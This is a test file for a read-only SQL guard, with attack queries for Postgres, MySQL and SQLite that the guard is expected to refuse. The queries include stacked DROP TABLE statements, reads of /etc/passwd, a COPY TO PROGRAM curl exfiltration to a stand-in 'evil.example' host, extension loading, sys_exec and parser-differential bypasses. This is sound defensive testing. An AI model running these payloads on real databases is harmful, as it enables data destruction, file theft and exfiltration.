import { describe, expect, it } from 'vitest';
import { checkReadOnlySql, type Dialect } from '../../src/guard/index.js';
import { sqliteGuard } from '../support/sqlite-guard.js';
import { expectRefusal } from './refusal.js';

type Attack = [sql: string, rule: string];

const postgres: Attack[] = [
  // stacked statements, including separators hidden from naive lexers
  ['SELECT 1; COMMIT; DROP TABLE users', 'read-only.single-statement'],
  ["SELECT '\\'; DROP TABLE users --'", 'read-only.single-statement'],
  ['SELECT $x$ $$ $x$; DROP TABLE users', 'read-only.single-statement'],
  ['SELECT /* /* nested */ ; */ 1; DROP TABLE users', 'read-only.single-statement'],
  ['SELECT "a;b" FROM users; DELETE FROM users', 'read-only.single-statement'],
  // data-modifying CTEs, anywhere
  ['WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x', 'read-only.cte-write'],
  ['WITH x AS (INSERT INTO users DEFAULT VALUES RETURNING id) SELECT 1', 'read-only.cte-write'],
  ['SELECT * FROM users WHERE id IN (WITH d AS (UPDATE users SET name = 1 RETURNING id) SELECT id FROM d)', 'read-only.cte-write'],
  ['WITH a AS (SELECT 1), b AS (MERGE INTO users u USING a ON true WHEN MATCHED THEN DELETE RETURNING u.id) SELECT * FROM b', 'read-only.cte-write'],
  // INTO and locking
  ['SELECT * INTO stolen FROM users', 'read-only.into'],
  ['SELECT * FROM users FOR UPDATE', 'read-only.locking'],
  ['SELECT * FROM (SELECT * FROM users FOR SHARE SKIP LOCKED) s', 'read-only.locking'],
  ['SELECT * FROM (SELECT 1 UNION ALL (SELECT id FROM users FOR UPDATE)) s', 'read-only.locking'],
  ['SELECT 1 UNION ALL SELECT pg_sleep(1)', 'read-only.function'],
  // side-effecting functions in every position
  ["SELECT pg_read_file('/etc/passwd')", 'read-only.function'],
  ["SELECT * FROM pg_ls_dir('/')", 'read-only.function'],
  ['SELECT * FROM ROWS FROM (pg_sleep(1)) AS s', 'read-only.function'],
  ['SELECT 1 FROM users WHERE pg_sleep(5) IS NOT NULL', 'read-only.function'],
  ['SELECT id FROM users ORDER BY pg_sleep(1)', 'read-only.function'],
  ['SELECT 1 FROM users GROUP BY pg_sleep(1)', 'read-only.function'],
  ['SELECT array_agg(id ORDER BY pg_sleep(0.1)) FROM users', 'read-only.function'],
  ['SELECT * FROM users u CROSS JOIN LATERAL (SELECT pg_advisory_lock(u.id)) l', 'read-only.function'],
  ['SELECT pg_try_advisory_xact_lock(1)', 'read-only.function'],
  ["SELECT COALESCE(NULL, pg_read_binary_file('/etc/passwd'))", 'read-only.function'],
  ['SELECT (SELECT max(g) FROM generate_series(1, pg_sleep(1)::text::int) g)', 'read-only.function'],
  ["SELECT set_config('statement_timeout', '0', false)", 'read-only.function'],
  ["SELECT lo_import('/etc/passwd')", 'read-only.function'],
  ["SELECT lo_export(1234, '/tmp/x')", 'read-only.function'],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'read-only.function'],
  ["SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", 'read-only.function'],
  ["SELECT ts_stat('SELECT to_tsvector(name) FROM users')", 'read-only.function'],
  ['SELECT pg_catalog.pg_terminate_backend(123)', 'read-only.function'],
  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', 'read-only.function'],
  ['SELECT "pg_sleep"(1)', 'read-only.function'],
  ['SELECT U&"pg\\005fsleep"(1)', 'read-only.function'],
  ["SELECT nextval('users_id_seq')", 'read-only.function'],
  ["SELECT pg_notify('channel', 'payload')", 'read-only.function'],
  ['SELECT txid_current()', 'read-only.function'],
  ['SELECT pg_reload_conf()', 'read-only.function'],
  ["SELECT table_to_xml('api_keys', true, true, '')", 'read-only.function'],
  // EXPLAIN
  ['EXPLAIN ANALYZE DELETE FROM users', 'read-only.explain-analyze'],
  ['EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1', 'read-only.explain-analyze'],
  ['EXPLAIN ANALYSE VERBOSE SELECT 1', 'read-only.explain-analyze'],
  ['EXPLAIN EXECUTE stmt', 'read-only.statement-kind'],
  ['EXPLAIN DELETE FROM users', 'read-only.statement-kind'],
  // statements that are not reads
  ["COPY users TO PROGRAM 'curl -d @- evil.example'", 'read-only.statement-kind'],
  ["COPY (SELECT 1) TO '/tmp/x'", 'read-only.statement-kind'],
  ['SET statement_timeout = 0', 'read-only.statement-kind'],
  ['DO $$BEGIN PERFORM pg_sleep(1); END$$', 'read-only.statement-kind'],
  ['COMMIT', 'read-only.statement-kind'],
  ['CALL cleanup()', 'read-only.statement-kind'],
  ['LISTEN channel', 'read-only.statement-kind'],
  ['PREPARE p AS SELECT 1', 'read-only.statement-kind'],
  ['LOCK TABLE users', 'read-only.statement-kind'],
  ['DISCARD ALL', 'read-only.statement-kind'],
  ['REFRESH MATERIALIZED VIEW stats', 'read-only.statement-kind'],
  // with standard_conforming_strings off the server would read these strings differently from the parser
  ["SELECT 'x\\' AS a, ' , pg_sleep(10), ' AS b", 'read-only.ambiguous-syntax'],
  ["SELECT N'x\\' AS a, ' , pg_read_file($$/etc/passwd$$), ' AS b", 'read-only.ambiguous-syntax'],
  // attribute notation calls one-argument functions
  ["SELECT (ROW('GET', 'http://evil.example')::http_request).http", 'read-only.function'],
  // unparseable text fails closed
  ['SELEC 1', 'read-only.parse'],
  ["SELECT 'unterminated", 'read-only.parse'],
  ['', 'read-only.parse'],
];

const mysql: Attack[] = [
  ['SELECT 1; DROP TABLE users', 'read-only.single-statement'],
  ['SELECT 1 # comment\n; DROP TABLE users', 'read-only.single-statement'],
  ['SELECT `a;b` FROM users; DROP TABLE users', 'read-only.single-statement'],
  ["SELECT 'it''s;'; DROP TABLE users", 'read-only.single-statement'],
  // executable comments: node-sql-parser skips them, MySQL runs them
  ['SELECT 1 /*!50000 , SLEEP(5) */', 'read-only.executable-comment'],
  ['SELECT 1 /*! ; DROP TABLE users */', 'read-only.executable-comment'],
  ['SELECT 1 /*M! , SLEEP(5) */', 'read-only.executable-comment'],
  ["SELECT 'x' /*!*/", 'read-only.executable-comment'],
  // lexer differentials: backslashes and double quotes depend on sql_mode, "--x" is not a comment
  ["SELECT 'a\\', SLEEP(5) -- '", 'read-only.ambiguous-syntax'],
  ["SELECT 'a\\'; DROP TABLE users -- '", 'read-only.ambiguous-syntax'],
  ['SELECT "a\\", SLEEP(5) -- "', 'read-only.ambiguous-syntax'],
  ['SELECT 1 --SLEEP(5)', 'read-only.ambiguous-syntax'],
  ['SELECT\u00a0SLEEP(1)', 'read-only.ambiguous-syntax'],
  ['SELECT 1 -- x\r, SLEEP(5) /*! , SLEEP(5) */\n', 'read-only.ambiguous-syntax'],
  // side-effecting functions
  ['SELECT SLEEP(5)', 'read-only.function'],
  ['SELECT `SLEEP`(5)', 'read-only.function'],
  ['SELECT NEXTVAL(order_seq)', 'read-only.function'],
  ["SELECT BENCHMARK(10000000, MD5('x'))", 'read-only.function'],
  ["SELECT GET_LOCK('x', 10)", 'read-only.function'],
  ['SELECT RELEASE_ALL_LOCKS()', 'read-only.function'],
  ["SELECT LOAD_FILE('/etc/passwd')", 'read-only.function'],
  ["SELECT MASTER_POS_WAIT('log', 1)", 'read-only.function'],
  ["SELECT sys_exec('id')", 'read-only.function'],
  ['SELECT * FROM users WHERE id = (SELECT SLEEP(1))', 'read-only.function'],
  ['SELECT id FROM users ORDER BY SLEEP(1)', 'read-only.function'],
  ["SELECT name FROM users UNION SELECT LOAD_FILE('/etc/passwd')", 'read-only.function'],
  ['SELECT * FROM users u JOIN orders o ON o.user_id = u.id AND SLEEP(1) = 0', 'read-only.function'],
  // files, variables, locks, session state
  ["SELECT * FROM users INTO OUTFILE '/tmp/x'", 'read-only.into'],
  ["SELECT * FROM users INTO DUMPFILE '/tmp/x'", 'read-only.into'],
  ['SELECT id INTO @v FROM users', 'read-only.into'],
  ['SELECT @a := 1', 'read-only.session-state'],
  ['SELECT * FROM users FOR UPDATE', 'read-only.locking'],
  ['SELECT * FROM users LOCK IN SHARE MODE', 'read-only.locking'],
  // not reads
  ['SET GLOBAL general_log = 1', 'read-only.statement-kind'],
  ['INSERT INTO users VALUES (1)', 'read-only.statement-kind'],
  ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users", 'read-only.statement-kind'],
  ['USE mysql', 'read-only.statement-kind'],
  ["GRANT ALL ON *.* TO 'x'@'%'", 'read-only.statement-kind'],
  ['EXPLAIN ANALYZE SELECT * FROM users', 'read-only.explain-analyze'],
  ['EXPLAIN /*! , SLEEP(1) */ SELECT 1', 'read-only.executable-comment'],
  ['EXPLAIN FORMAT=JSON DELETE FROM users', 'read-only.statement-kind'],
  ['DO SLEEP(1)', 'read-only.statement-kind'],
  ['HANDLER users OPEN', 'read-only.statement-kind'],
  ['SELECT 1 /* unterminated', 'read-only.parse'],
  ['ANALYZE DELETE FROM users', 'read-only.statement-kind'],
];

const sqlite: Attack[] = [
  ['SELECT 1; DROP TABLE users', 'read-only.single-statement'],
  ["SELECT '--'; DELETE FROM users", 'read-only.single-statement'],
  ["SELECT load_extension('/tmp/evil.so')", 'read-only.function'],
  ["SELECT writefile('/tmp/x', 'data')", 'read-only.function'],
  ["SELECT readfile('/etc/passwd')", 'read-only.function'],
  ["SELECT fts3_tokenizer('simple', x'41')", 'read-only.function'],
  ["SELECT * FROM users WHERE id IN (SELECT edit('x'))", 'read-only.function'],
  ['SELECT "load_extension"(\'/tmp/evil.so\')', 'read-only.function'],
  ["SELECT `LOAD_EXTENSION`('/tmp/evil.so')", 'read-only.function'],
  ["SELECT name FROM users WHERE load_extension('x') IS NULL", 'read-only.function'],
  // Windows without PARTITION BY are read with one added: what is inside them is still checked.
  ["SELECT sum(id) OVER (ORDER BY load_extension('/tmp/evil.so')) FROM users", 'read-only.function'],
  ['SELECT rank() OVER (ORDER BY id) FROM users; DELETE FROM users', 'read-only.single-statement'],
  ["ATTACH DATABASE '/tmp/x.db' AS x", 'read-only.statement-kind'],
  ['DELETE FROM users', 'read-only.statement-kind'],
  ['REPLACE INTO users (id) VALUES (1)', 'read-only.statement-kind'],
  ['PRAGMA writable_schema = ON', 'read-only.pragma'],
  ['PRAGMA journal_mode = DELETE', 'read-only.pragma'],
  ['PRAGMA journal_mode(DELETE)', 'read-only.pragma'],
  ['PRAGMA query_only = 0', 'read-only.pragma'],
  ['PRAGMA main.user_version = 7', 'read-only.pragma'],
  ['PRAGMA optimize', 'read-only.pragma'],
  ['PRAGMA table_info(users); DROP TABLE users', 'read-only.single-statement'],
  ['EXPLAIN QUERY PLAN DELETE FROM users', 'read-only.statement-kind'],
  ['SELECT data FROM sqlite_dbpage WHERE pgno = 2', 'read-only.function'],
  ['EXPLAIN SELECT 1; DROP TABLE users', 'read-only.single-statement'],
  ["VACUUM INTO '/tmp/copy.db'", 'read-only.statement-kind'],
  ['DETACH DATABASE x', 'read-only.statement-kind'],
  // SQLite has no "#" comments and no backslash escapes: the call after them is seen, as SQLite sees it
  ["SELECT 1 # , load_extension('x')", 'read-only.function'],
  ["SELECT 'a\\', load_extension('x') -- '", 'read-only.function'],
];

const suites: [Dialect, Attack[]][] = [
  ['postgres', postgres],
  ['mysql', mysql],
  ['sqlite', sqlite],
];

for (const [dialect, attacks] of suites) {
  describe(`${dialect} attacks are refused`, () => {
    it.each(attacks)('%s → %s', async (sql, rule) => {
      await expectRefusal(checkReadOnlySql(sql, dialect, {}), rule);
    });
  });
}

describe('MySQL strings whose end depends on the session sql_mode', () => {
  it('are refused: NO_BACKSLASH_ESCAPES or ANSI_QUOTES would read them differently', async () => {
    await expectRefusal(checkReadOnlySql("SELECT 'it\\'s' AS s FROM files", 'mysql', {}), 'read-only.ambiguous-syntax');
    await expectRefusal(checkReadOnlySql("SELECT 'a\\', SLEEP(5) -- '", 'mysql', {}), 'read-only.ambiguous-syntax');
    await expectRefusal(checkReadOnlySql('SELECT "a\\", SLEEP(5) -- "', 'mysql', {}), 'read-only.ambiguous-syntax');
  });
});

describe('text the parsers cannot be trusted with is refused before parsing', () => {
  it.each(['postgres', 'mysql', 'sqlite'] as const)('%s: a NUL character hides the rest from C parsers', async (dialect) => {
    await expectRefusal(checkReadOnlySql('SELECT 1\u0000; DROP TABLE users', dialect, {}), 'read-only.parse');
    await expectRefusal(checkReadOnlySql("SELECT '\u0000'", dialect, {}), 'read-only.parse');
  });

  it.each(['postgres', 'mysql', 'sqlite'] as const)('%s: oversized text', async (dialect) => {
    const sql = `SELECT 1 FROM users WHERE id IN (${Array.from({ length: 30_000 }, (_, index) => index).join(', ')})`;
    await expectRefusal(checkReadOnlySql(sql, dialect, {}), 'read-only.size');
  });

  it("sqlite: nesting too deep is SQLite's to refuse, and the worker goes on", async () => {
    const lite = await sqliteGuard();
    try {
      await expect(lite.read(`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`)).rejects.toThrow(/SQLite rejected the statement: /);
      await expect(lite.read('SELECT 1 AS one')).resolves.toMatchObject({ rows: [[1]] });
    } finally {
      await lite.close();
    }
  });

  it.each(['postgres', 'mysql'] as const)('%s: nesting too deep for the parser', async (dialect) => {
    await expectRefusal(checkReadOnlySql(`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`, dialect, {}), 'read-only.parse');
  });
});

describe('unparseable text is refused under the rule that fits it', () => {
  it.each<[Dialect, string, string]>([
    ['mysql', 'SELEC 1', 'read-only.parse'],
    ['sqlite', 'DELETE FROM users RETURNING *', 'read-only.statement-kind'],
    ['mysql', 'ALTER USER root IDENTIFIED BY "x"', 'read-only.statement-kind'],
  ])('%s: %s → %s', async (dialect, sql, rule) => {
    await expectRefusal(checkReadOnlySql(sql, dialect, {}), rule);
  });
});
